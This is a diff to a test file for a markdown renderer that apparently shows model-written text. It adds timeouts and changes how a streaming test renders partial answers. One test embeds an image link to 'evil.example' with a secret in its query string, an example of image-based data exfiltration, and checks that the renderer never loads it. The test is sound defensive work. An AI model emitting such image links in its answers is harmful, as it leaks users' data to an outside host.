@@ -80,7 +80,7 @@ describe("What a model writes cannot act", () => {
     expect(read(html)).toContain("a cat");
   });
 
-  test("an image that arrives piece by piece is never loaded on the way", () => {
+  test("an image that arrives piece by piece is never loaded on the way", { timeout: 30_000 }, () => {
     const text = "Look: ![a cat](https://evil.example/cat.png?secret=1) here";
     for (let end = 1; end <= text.length; end++) {
       const html = render(text.slice(0, end), { streaming: true });
@@ -233,9 +233,11 @@ describe("While an answer grows", () => {
     expect(mend(text)).toBe(mended);
   });
 
-  test("no mark of the final text ever shows and vanishes", () => {
+  test("no mark of the final text ever shows and vanishes", { timeout: 30_000 }, () => {
     for (let end = 1; end <= sample.length; end++) {
-      const shown = read(render(sample.slice(0, end), { streaming: true }).replace(/<pre.*?<\/pre>/gs, ""));
+      // What stands above the last block was shown by an earlier round.
+      const last = splitBlocks(sample.slice(0, end)).at(-1)?.text ?? "";
+      const shown = read(render(last, { streaming: true }).replace(/<pre.*?<\/pre>/gs, ""));
       expect(shown, sample.slice(Math.max(0, end - 20), end)).not.toMatch(/\*\*|~~|(^|\s)`|\]\(|\|/);
     }
   });
